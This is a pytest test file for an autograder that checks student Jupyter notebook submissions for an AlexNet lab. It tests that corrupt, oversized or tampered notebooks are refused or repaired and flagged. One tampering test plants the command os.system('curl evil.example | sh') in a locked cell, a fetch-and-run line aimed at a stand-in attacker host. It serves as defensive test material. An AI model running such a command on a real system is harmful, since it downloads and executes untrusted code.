"""Bad submissions: each gets a clear one-line reason or a flag, and the file is never touched."""
import copy
import dataclasses
import json

import nbformat
import notebooks
import pytest
from notebooks import CONFIG, REPO

from autograder.config import select_profile
from autograder.course import NbgraderRoot
from autograder.errors import SubmissionError
from autograder.submission.sanitise import prepare

MASTER = REPO / "source" / "alexnet" / "alexnet.ipynb"


def _prepare(tmp_path, course_root, smoke, nb=None, raw=None, config=CONFIG, name="student"):
    path = tmp_path / f"{name}.ipynb"
    if raw is not None:
        path.write_bytes(raw)
    else:
        nbformat.write(nb, str(path))
    before = path.read_bytes()
    try:
        return prepare(name, path, NbgraderRoot(course_root, config.course), MASTER, smoke, config)
    finally:
        assert path.read_bytes() == before, "the submitted file was modified"


def _ids(prepared):
    nb = nbformat.reads(prepared.notebook, as_version=4)
    return [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]


def _code(prepared):
    nb = nbformat.reads(prepared.notebook, as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in nb.cells if c.cell_type == "code"}


@pytest.fixture(scope="module")
def master_code(tmp_path_factory, course_root, smoke, release_nb):
    """The code that runs for an untouched release: the reference for every tampering case."""
    return _code(_prepare(tmp_path_factory.mktemp("clean"), course_root, smoke, release_nb))


# The words are the student's check's own (alexnet_core.structure): one reader, one reason.
@pytest.mark.parametrize("raw, words", [
    (b"\x89PNG\r\n\x1a\n not a notebook", "the file is not text"),
    (b"my essay", "not valid JSON"),
    (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    (b'{"students": ["a", "b"]}', "not a Jupyter notebook"),
    (b'["cells"]', "not a Jupyter notebook"),
    (b'{"nbformat": 4, "cells": {"0": {}}}', "no list of cells"),
    (b'{"nbformat": 9, "nbformat_minor": 0, "cells": []}', "not the alexnet notebook"),  # read as 4: nothing of the lab
    # Each cell and output costs the one coordinator time after the reader: 200,000 one-line cells held it 48 s.
    (json.dumps({"cells": [{"cell_type": "markdown", "source": "x"}] * 5_001}).encode(), "5,001 cells and 0 outputs"),
    (json.dumps({"cells": [{"cell_type": "code", "source": "", "outputs": [
        {"output_type": "stream", "name": "stdout", "text": "x"}] * 5_001}]}).encode(), "1 cells and 5,001 outputs"),
    (json.dumps({"metadata": {"notes": list(range(100_001))}, "cells": []}).encode(), "more than 100,000 values"),
])
def test_files_that_are_not_notebooks_are_refused_with_a_reason(tmp_path, course_root, smoke, raw, words):
    with pytest.raises(SubmissionError, match=words) as info:
        _prepare(tmp_path, course_root, smoke, raw=raw)
    assert "student.ipynb" in str(info.value) and "\n" not in str(info.value)


def test_old_nbformat_is_upgraded_and_graded(tmp_path, course_root, smoke, release_nb, master_code):
    old = nbformat.convert(notebooks.answer_all(release_nb), 3)
    prepared = _prepare(tmp_path, course_root, smoke, raw=nbformat.writes(old, version=3).encode())
    assert any("nbformat 3" in f for f in prepared.flags)
    assert _code(prepared) == master_code
    assert all(a.answered for a in prepared.answers)


def test_another_assignments_notebook_is_refused(tmp_path, course_root, smoke, release_nb):
    other = copy.deepcopy(release_nb)
    other.metadata["alexnet_lab"]["assignment"] = "resnet"
    with pytest.raises(SubmissionError, match="assignment 'resnet'"):
        _prepare(tmp_path, course_root, smoke, other)
    unrelated = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")])
    with pytest.raises(SubmissionError, match="not the alexnet notebook"):
        _prepare(tmp_path, course_root, smoke, unrelated)


def test_huge_submission_is_refused_before_parsing(tmp_path, course_root, smoke, release_nb):
    big = copy.deepcopy(release_nb)
    cell = notebooks.cell_by_id(big, "pixels")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 3_000_000)]
    config = dataclasses.replace(CONFIG, limits=dataclasses.replace(CONFIG.limits, submission_mb=1.0))
    with pytest.raises(SubmissionError, match=r"over the 1 MB limit"):
        _prepare(tmp_path, course_root, smoke, big, config=config)


def test_deleted_duplicated_and_reordered_cells_run_as_the_master(tmp_path, course_root, smoke, release_nb, master_code):
    nb = notebooks.answer_all(release_nb)
    ids = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells]
    nb.cells = [c for c in nb.cells if c.metadata["nbgrader"]["grade_id"] not in ("train", "answer_q2", "check_kernels")]
    duplicate = copy.deepcopy(notebooks.cell_by_id(nb, "imports"))
    duplicate["id"] = "imports-copy"  # Jupyter gives a pasted cell a fresh id; the grade_id is what repeats
    nb.cells.insert(2, duplicate)                                                  # duplicated
    i, j = ids.index("load_mini"), ids.index("architecture")
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]                          # reordered
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    assert _code(prepared) == master_code
    assert _ids(prepared) == ids
    flags = " | ".join(prepared.flags)
    for words in ("cell train was deleted", "answer cell answer_q2 was deleted", "grade cell check_kernels was deleted",
                  "imports appears 2 times", "cells were moved"):
        assert words in flags
    q2 = next(a for a in prepared.answers if a.label == "Q2")
    assert not q2.answered


def test_edited_nbgrader_metadata_is_restored(tmp_path, course_root, smoke, release_nb, master_code):
    nb = notebooks.answer_all(release_nb)
    train = notebooks.cell_by_id(nb, "train")
    train.metadata["nbgrader"].update(locked=False, solution=True)                # make it "editable"
    train.source = "import os\nos.system('curl evil.example | sh')"
    notebooks.cell_by_id(nb, "check_trajectory").metadata["nbgrader"]["points"] = 100
    del notebooks.cell_by_id(nb, "predict").metadata["nbgrader"]                  # strip the metadata
    notebooks.cell_by_id(nb, "check_evidence").metadata["nbgrader"]["grade_id"] = "mine"
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    assert _code(prepared) == master_code
    flags = " | ".join(prepared.flags)
    assert "metadata of cell train was edited (solution, locked)" in flags
    assert "check_trajectory was edited (points)" in flags
    assert "matched to predict by its code" in flags
    assert "unknown cell ('mine')" in flags


def test_answers_typed_into_the_wrong_cells_are_reported(tmp_path, course_root, smoke, release_nb):
    nb = copy.deepcopy(release_nb)
    q1 = notebooks.cell_by_id(nb, "question_q1")
    q1.source += "\n\nBefore 2012 there was too little labelled data and compute for big networks."
    nb.cells.append(nbformat.v4.new_markdown_cell("Q4b: colour blobs and coarse edges are enough for CIFAR."))
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    flags = " | ".join(prepared.flags)
    assert "text typed into the locked cell question_q1" in flags and "too little labelled data" in flags
    assert "not an answer cell" in flags and "colour blobs" in flags
    assert not any(a.answered for a in prepared.answers)


def test_short_answers_reach_the_ta(tmp_path, course_root, smoke, release_nb):
    # Q3a asks for a number: "10%" is an answer (issue 11); only empty or the placeholder is unanswered.
    nb = notebooks.answer_all(release_nb, text_for=lambda label: {"Q3a": "10%", "Q1": "Data."}.get(label, "Because of data and compute."))
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    q3a = next(a for a in prepared.answers if a.label == "Q3a")
    assert q3a.answered and "10%" in q3a.text
    assert sum(a.answered for a in prepared.answers) == 7


def test_extra_code_is_removed_by_default_and_kept_when_switched_on(tmp_path, course_root, smoke, release_nb):
    nb = copy.deepcopy(release_nb)
    nb.cells.insert(10, nbformat.v4.new_code_cell("print('my own experiment')"))
    assert "my own experiment" not in prepare_text(tmp_path, course_root, smoke, nb, CONFIG)
    on = dataclasses.replace(CONFIG, limits=dataclasses.replace(CONFIG.limits, run_extra_code=True))
    assert "my own experiment" in prepare_text(tmp_path, course_root, smoke, nb, on)


def prepare_text(tmp_path, course_root, smoke, nb, config):
    return _prepare(tmp_path, course_root, smoke, nb, config=config).notebook


def test_evidence_is_read_before_outputs_are_cleared(tmp_path, course_root, smoke, student_run):
    prepared = _prepare(tmp_path, course_root, smoke, notebooks.answer_all(student_run))
    assert len(prepared.evidence["trajectory"]["accuracy"]) == smoke.epochs + 1
    assert sorted(prepared.evidence["plots"]["kernels"]) == ["pretrained", "trained", "untrained"]
    cleared = nbformat.reads(prepared.notebook, as_version=4)
    assert all(not c.get("outputs") for c in cleared.cells if c.cell_type == "code")
    assert json.loads(prepared.notebook)["metadata"]["alexnet_lab"]["student_id"] == "student"


# What a TA should get for each breakage: a one-line refusal only where the file is no notebook;
# everything else is repaired (by alexnet_core.structure, as the student's check repairs it) and
# flagged where the TA should know, and the answers are graded. A locked cell without text is
# read as empty and its code restored from the master, so what runs is still known.
BREAKAGES = {
    "nbgrader metadata a string": ("repaired", "had lost its nbgrader metadata; matched to imports by its code"),
    "cell metadata a list": ("repaired", "had lost its nbgrader metadata; matched to predict by its code"),
    "source a number": ("repaired", "had no text (its source was a number); read as empty"),
    "trajectory hand-edited to text": ("repaired", None),
    "points as words": ("repaired", "nbgrader metadata of cell check_kernels was edited (points); restored"),
    "plot record garbled": ("repaired", None),
    "cells an object": ("refused", "no list of cells"),
    # nbformat's validator raised on it ('str' object has no attribute 'items'): an internal error, not a reason.
    "an attachment a string": ("repaired", "had an attachment 'figure.png' that was a string of the wrong form; removed"),
}


@pytest.mark.parametrize("breakage", BREAKAGES)
def test_broken_structure_is_refused_or_repaired_never_a_crash(tmp_path, course_root, smoke, release_nb, master_code,
                                                              breakage):
    nb = json.loads(nbformat.writes(notebooks.answer_all(release_nb)))
    cells = {c["metadata"]["nbgrader"]["grade_id"]: c for c in nb["cells"]}
    record = {"output_type": "display_data", "metadata": {}, "data": {}}
    if breakage == "nbgrader metadata a string":
        cells["imports"]["metadata"]["nbgrader"] = "locked"
    elif breakage == "cell metadata a list":
        cells["predict"]["metadata"] = []
    elif breakage == "source a number":
        cells["predict"]["source"] = 42
    elif breakage == "trajectory hand-edited to text":
        record["data"]["application/vnd.alexnet-lab.trajectory+json"] = {"accuracy": "about 60%"}
        cells["train"]["outputs"] = [record]
    elif breakage == "cells an object":
        nb["cells"] = {str(i): c for i, c in enumerate(nb["cells"])}
    elif breakage == "points as words":
        cells["check_kernels"]["metadata"]["nbgrader"]["points"] = "many"
    elif breakage == "an attachment a string":
        cells["answer_q1"]["attachments"] = {"figure.png": "iVBORw0KGgo=", "ok.png": {"image/png": "iVBORw0KGgo="}}
    else:
        record["data"]["application/vnd.alexnet-lab.plot+json"] = {"kind": "kernels", "model": "alexnet-mini",
                                                                  "epochs_trained": "five"}
        cells["trained_kernels"]["outputs"] = [record]
    outcome, says = BREAKAGES[breakage]
    if outcome == "refused":
        with pytest.raises(SubmissionError) as refused:
            _prepare(tmp_path, course_root, smoke, raw=json.dumps(nb).encode())
        reason = str(refused.value)
        assert reason.startswith("student.ipynb:") and says in reason and "\n" not in reason
        return
    prepared = _prepare(tmp_path, course_root, smoke, raw=json.dumps(nb).encode())
    assert prepared.evidence["trajectory"] is None
    assert all(a.answered for a in prepared.answers)
    assert _code(prepared) == master_code  # the master's code is what runs
    if says:
        assert any(says in flag for flag in prepared.flags), prepared.flags


def test_hand_edited_plot_records_do_not_break_preparation(tmp_path, course_root, smoke, student_run):
    """Outputs are the student's to edit: a plot record of the wrong shape is ignored, not a crash."""
    nb = notebooks.answer_all(copy.deepcopy(student_run))
    edited = 0
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            record = out.get("data", {}).get("application/vnd.alexnet-lab.plot+json")
            if record is not None:
                record["kind"] = ["kernels", 3] if edited % 2 else 7
                edited += 1
    assert edited >= 3
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    assert prepared.evidence["plots"]["kinds"] == []
    assert all(a.answered for a in prepared.answers)


@pytest.mark.parametrize("tag", ["skip-execution", "raises-exception"])
def test_tags_that_change_how_a_cell_runs_are_restored_from_the_master(tmp_path, course_root, smoke, release_nb,
                                                                       master_code, tag):
    nb = notebooks.answer_all(release_nb)
    notebooks.cell_by_id(nb, "train").metadata["tags"] = [tag]
    prepared = _prepare(tmp_path, course_root, smoke, nb)
    runs = nbformat.reads(prepared.notebook, as_version=4)
    assert all(tag not in c.metadata.get("tags", []) for c in runs.cells)
    assert _code(prepared) == master_code
    assert any("tags of cell train were edited" in flag for flag in prepared.flags), prepared.flags


def test_points_changed_after_the_release_flag_nobody(tmp_path, release_nb):
    """A course makes Q1 and the training check worth more after students downloaded the release
    (and an earlier typo fix changed a locked cell's text): the notebooks hold the old values,
    which are put back from the gradebook without a flag. An edit made by hand is still flagged."""
    from autograder.authoring.release import register
    from autograder.demo.sample_class import type_id

    points = dataclasses.replace(CONFIG.points, questions={**CONFIG.points.questions, "Q1": 5}, trajectory=6)
    later = dataclasses.replace(CONFIG, points=points)
    root = tmp_path / "course"
    register(root, MASTER, later, profile=select_profile(later, "smoke"))
    smoke = later.profiles["smoke"]
    prepared = _prepare(tmp_path, root, smoke, type_id(notebooks.answer_all(release_nb), "student"), config=later)
    assert prepared.flags == []
    assert next(a for a in prepared.answers if a.label == "Q1").max_score == 5
    edited = notebooks.answer_all(release_nb)
    notebooks.cell_by_id(edited, "check_kernels").metadata["nbgrader"]["points"] = 50
    prepared = _prepare(tmp_path, root, smoke, edited, config=later, name="editor")
    assert any("check_kernels was edited (points)" in f for f in prepared.flags), prepared.flags


def test_characters_no_text_can_hold_are_replaced_and_flagged(tmp_path, course_root, smoke, release_nb):
    """JSON may write NUL and half of a UTF-16 pair as escapes (a hand-edited file, a tool that cuts a
    string inside an emoji): such an answer is read with each replaced by U+FFFD, and said so. Kept,
    a lone surrogate cannot be written as UTF-8 (executed.ipynb, feedback.html, the report, SQLite)
    and PostgreSQL refuses NUL in text, so one student's answer stopped that student's result."""
    nb = notebooks.answer_all(release_nb)
    notebooks.answer_cells(nb)["Q1"].source = "Edges \ud83d and blobs\x00 in the kernels \U0001f600."
    prepared = _prepare(tmp_path, course_root, smoke, raw=json.dumps(nb).encode())  # ASCII: \ud83d, \u0000
    q1 = next(a for a in prepared.answers if a.label == "Q1")
    assert q1.answered and q1.text == "Edges \ufffd and blobs\ufffd in the kernels \U0001f600."
    assert any(f.startswith("2 character(s) that no text holds") for f in prepared.flags), prepared.flags
    prepared.notebook.encode("utf-8")  # what runs, and every copy of it, is text


def test_json_nested_a_little_less_than_the_parser_allows_is_refused_with_a_reason(tmp_path, course_root, smoke,
                                                                                   release_nb):
    """Nested past what a notebook holds but less than the JSON parser's own limit, in a key no
    check reads: refused in one line naming the file, as a deeper file is, never an internal error
    from whichever reader after the parser recursed deepest."""
    text = nbformat.writes(notebooks.answer_all(release_nb))
    deep = "[" * 900 + "]" * 900
    raw = text.replace('"metadata": {', '"metadata": {"widgets": ' + deep + ",", 1).encode()  # the first cell's
    assert "widgets" in json.loads(raw)["cells"][0]["metadata"]  # below the parser's own limit: it reads the file
    with pytest.raises(SubmissionError, match="nested too deeply") as refused:
        _prepare(tmp_path, course_root, smoke, raw=raw)
    assert str(refused.value).startswith("student.ipynb:") and "\n" not in str(refused.value)
